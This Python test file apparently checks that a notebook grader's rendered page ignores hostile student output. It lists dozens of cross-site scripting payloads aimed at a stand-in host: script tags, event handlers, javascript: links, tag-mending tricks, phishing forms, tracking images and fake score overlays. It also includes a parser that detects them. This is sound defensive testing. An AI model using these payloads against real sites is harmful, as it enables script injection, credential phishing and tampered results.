"""The reader's browser: what a student displays or writes must not act on the page that shows it.

Here on the page's own elements; that nothing runs in a real browser is tested in
`tests/browser`.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from tests.attacks.attack import Attack, all_of, answers, cases, first, last, own_cell

EVIL = "evil-canary"
"""In each script, address and style of an attack: as text it may be read, more it may not do."""

RUN = f"fetch(`https://{EVIL}.example`)"  # fits between either kind of quotes


def displayed(mime, content):
    """Display this in an output of an answer's cell."""
    shown = f"from IPython.display import display\ndisplay({{{mime!r}: {content!r}}}, raw=True)"
    return own_cell("double", shown)


def html(content):
    return displayed("text/html", content)


def markdown(content):
    return own_cell("double", content, kind="markdown")


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'

ATTACKS = [
    Attack("html-script", "Displays HTML with a script", html(f"<b>hi</b><script>{RUN}</script>")),
    Attack(
        "html-handler",
        "Displays HTML with event handlers",
        html(f'<img src=x onerror="{RUN}"><p onmouseover="{RUN}" ONCLICK={EVIL}()>hi</p>'),
    ),
    Attack(
        "html-broken-tags",
        "Hides a script in tags that browsers mend",
        html(
            f'<scr<script>ipt>{RUN}</scr</script>ipt><img/src="x"/onerror={EVIL}()>'
            f'<svg/onload={EVIL}()><math><mi//xlink:href="data:x,<script>{RUN}</script>">'
        ),
    ),
    Attack(
        "html-comment",
        "Hides a script behind a comment's end and in CDATA",
        html(
            f"<!--><script>{RUN}</script>--><![CDATA[><script>{RUN}</script>]]>"
            f'<noscript><p title="</noscript><img src=x onerror={EVIL}()>"></noscript>'
        ),
    ),
    Attack(
        "html-template",
        "Hides a script in template, noembed, xmp, textarea and title",
        html(
            "".join(
                f"<{tag}><a title='</{tag}><img src=x onerror={EVIL}()>'></a></{tag}>"
                for tag in (
                    "template",
                    "noembed",
                    "xmp",
                    "textarea",
                    "title",
                    "style",
                    "iframe",
                    "noframes",
                    "plaintext",
                )
            )
        ),
    ),
    Attack(
        "html-addresses",
        "Displays links with javascript:, data: and vbscript: addresses",
        html(
            f'<a href="javascript:{RUN}">a</a><a href=" jAvA\tscript:{EVIL}()">b</a>'
            f'<a href="&#106;avascript:{EVIL}()">c</a><a href="vbscript:{EVIL}">e</a>'
            f'<a href="data:text/html,<script>{EVIL}()</script>">d</a>'
        ),
    ),
    Attack(
        "html-frames",
        "Displays frames, objects and embeds",
        html(
            f'<iframe src="https://{EVIL}.example"></iframe><iframe srcdoc="<script>{RUN}'
            f'</script>"></iframe><object data="https://{EVIL}.example"></object>'
            f'<embed src="https://{EVIL}.example"><frameset><frame src="{EVIL}"></frameset>'
        ),
    ),
    Attack(
        "html-form",
        "Displays a form that asks for a password, and redirects",
        html(
            f'<form action="https://{EVIL}.example"><input name="password"><button formaction='
            f'"https://{EVIL}.example">10 of 10</button></form><base href="https://{EVIL}.example">'
            f'<meta http-equiv="refresh" content="0; url=https://{EVIL}.example">'
            f'<link rel="stylesheet" href="https://{EVIL}.example">'
        ),
    ),
    Attack(
        "html-style",
        "Lays another score over the page with styles",
        html(
            f"<style>.{EVIL} {{}} body {{ display: none }} @import 'https://{EVIL}.example';"
            f'</style><div style="position: fixed; inset: 0; background: '
            f'url(https://{EVIL}.example)">10 of 10</div>'
        ),
    ),
    Attack(
        "html-tracking",
        "Loads a picture from elsewhere, to see who reads",
        html(
            f'<img src="https://{EVIL}.example/a.png"><video poster="https://{EVIL}.example">'
            f'</video><img srcset="https://{EVIL}.example/b.png 2x"><picture><source srcset='
            f'"//{EVIL}.example/c"></picture><audio src="https://{EVIL}.example"></audio>'
        ),
    ),
    Attack(
        "html-clobber",
        "Displays elements with names that the page's own scripts use",
        html(
            f'<form id="{EVIL}" name="getElementById"></form><a id="MathJax" name="cookie">x</a>'
            f'<script type="text/x-mathjax-config">{RUN}</script>'
        ),
    ),
    Attack("svg-output", "Displays an SVG with a script", displayed("image/svg+xml", SVG)),
    Attack(
        "svg-in-html",
        "Displays an SVG inside HTML",
        html(
            f'{SVG}<svg><a xlink:href="javascript:{EVIL}()"><text>x</text></a><use href="data:'
            f'image/svg+xml,{EVIL}"/><animate onbegin="{EVIL}()" attributeName="x"/>'
            f"<foreignObject><iframe src='https://{EVIL}.example'/></foreignObject></svg>"
        ),
    ),
    Attack("javascript-output", "Displays JavaScript", displayed("application/javascript", RUN)),
    Attack(
        "widget-output",
        "Displays a widget's state and other types that pages act on",
        all_of(
            displayed("application/vnd.jupyter.widget-view+json", '{"model_id": "x"}'),
            displayed("application/vnd.plotly.v1+json", f'{{"x": "</script><script>{RUN}"}}'),
            displayed("application/json", f"</script><script>{RUN}</script>"),
            displayed("application/pdf", f"data:text/html,<script>{RUN}</script>"),
        ),
    ),
    Attack(
        "markdown-output",
        "Displays markdown with HTML and javascript: links",
        displayed(
            "text/markdown",
            f"[x](javascript:{EVIL}()) <img src=x onerror={EVIL}()> "
            f"![y](https://{EVIL}.example/y.png)",
        ),
    ),
    Attack(
        "latex-output",
        "Displays LaTeX that makes links and HTML",
        displayed(
            "text/latex",
            f"$\\href{{javascript:{EVIL}()}}{{x}} \\unicode{{<script>{RUN}"
            f"</script>}}\\require{{html}}\\style{{{EVIL}: 1}}{{y}}$",
        ),
    ),
    Attack(
        "picture-output",
        "Displays pictures whose data end the attribute",
        all_of(
            displayed("image/png", f'"><script>{RUN}</script>'),
            displayed("image/jpeg", f'x" onerror="{EVIL}()'),
        ),
    ),
    Attack(
        "text-output",
        "Prints HTML, terminal colours and control characters",
        own_cell(
            "double",
            f"print('<script>{RUN}</script>\\x1b[31m<img src=x onerror={EVIL}()>"
            f"\\x1b]8;;javascript:{EVIL}()\\x1b\\\\click\\x1b]8;;\\x1b\\\\')",
        ),
    ),
    Attack(
        "traceback",
        "Raises an exception whose text is HTML",
        own_cell("double", f"raise ValueError('<script>{RUN}</script><img onerror={EVIL}()>')"),
    ),
    Attack(
        "traceback-name",
        "Raises an exception whose name is HTML",
        own_cell("double", f"raise type('<script>{RUN}</script>', (Exception,), {{}})('x')"),
    ),
    Attack(
        "check-message",
        "Lets a visible check quote HTML",
        answers(double=f"def double(x):\n    raise ValueError('<script>{RUN}</script>')"),
    ),
    Attack(
        "markdown-link",
        "Writes a javascript: link into a text cell",
        markdown(
            f"[x](javascript:{EVIL}()) [y]( jav&#x09;ascript:{EVIL}() ) <javascript:{EVIL}()>"
            f"\n\n[z]: javascript:{EVIL}()\n\n[z] [w](data:text/html,{EVIL})"
        ),
    ),
    Attack(
        "markdown-html",
        "Writes HTML with scripts into a text cell",
        markdown(
            f"<script>{RUN}</script>\n\n<img src=x onerror={EVIL}()>\n\n{SVG}\n\n"
            f"<details open ontoggle={EVIL}()><summary>x</summary></details>"
        ),
    ),
    Attack(
        "markdown-math",
        "Writes math that makes links",
        markdown(
            f"$\\href{{javascript:{EVIL}()}}{{x}}$ $$<img src=x onerror={EVIL}()>$$ "
            f"\\begin{{align}}</script><script>{RUN}</script>\\end{{align}}"
        ),
    ),
    Attack(
        "markdown-code",
        "Writes a code block whose language is HTML",
        markdown(f'```"><script>{RUN}</script>\nx\n```\n\n~~~html\n<script>{RUN}</script>\n~~~'),
    ),
    Attack(
        "markdown-picture",
        "Shows a picture from elsewhere and one from an attachment",
        markdown(f"![x](https://{EVIL}.example/x.png) ![y](attachment:{EVIL}.svg)"),
    ),
    Attack(
        "answer-source",
        "Writes HTML into the answer's own code",
        answers(essay=f"why = '</code></pre><script>{RUN}</script>'\n# <img onerror={EVIL}()>"),
    ),
    Attack(
        "hides-the-score",
        "Ends the page's own elements to write a score of its own",
        html("</div></div></body></html><body><h1>Score: 10 of 10</h1>"),
    ),
    Attack(
        "first-thing",
        "Displays a script before anything else",
        first(
            f"from IPython.display import HTML, Javascript, display\n"
            f"display(HTML('<script>{RUN}</script>'), Javascript('{EVIL}()'))"
        ),
    ),
    Attack(
        "last-thing",
        "Leaves HTML as the last value, from `_repr_html_`",
        last(
            f"class Shown:\n    def _repr_html_(self):\n        return '<script>{RUN}</script>'\n"
            f"    def _repr_javascript_(self):\n        return '{EVIL}()'\nShown()"
        ),
    ),
]

FORBIDDEN = {"iframe", "frame", "frameset", "object", "embed", "base", "form", "applet", "portal"}


class Acting(HTMLParser):
    """Collects what on a page would act, not only be read."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._inside: str | None = None
        self.bodies = 0

    def handle_starttag(self, tag, attributes):
        self._inside = tag if tag in ("script", "style") else self._inside
        self.bodies += tag == "body"
        if tag in FORBIDDEN:
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            text = "".join((value or "").lower().split())
            if EVIL in text or (name.startswith("on") and tag != "body"):
                if name in ("alt", "title", "aria-label") and "<" not in text:
                    continue
                self.found.append(f"<{tag} {name}={value!r}>")
            if text.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "style" and ("position" in text or "url(" in text):
                self.found.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == self._inside:
            self._inside = None

    def handle_data(self, data):
        if self._inside and EVIL in data:
            self.found.append(f"<{self._inside}>{data[:200]}")


def acting(page: str) -> list[str]:
    """What on a page would act; a second body is a page inside the page."""
    reader = Acting()
    reader.feed(page)
    reader.close()
    return reader.found + ["<body>"] * (reader.bodies - 1)


@pytest.mark.parametrize("attack", cases(ATTACKS))
def test_readers_browser(attack, holds):
    assert acting(holds(attack).page) == []


@pytest.mark.parametrize(
    "page",
    [
        f"<script>{RUN}</script>",
        f"<img src=x onerror={EVIL}()>",
        f'<a href="java&#x73;cript:{EVIL}()">x</a>',
        f'<p style="background: url(https://{EVIL}.example)">x</p>',
        f"<style>.{EVIL} {{}}</style>",
        '<iframe srcdoc="x"></iframe>',
        SVG,
    ],
)
def test_the_reader_above_sees_what_acts(page):
    assert acting(f"<body>{page}</body>")
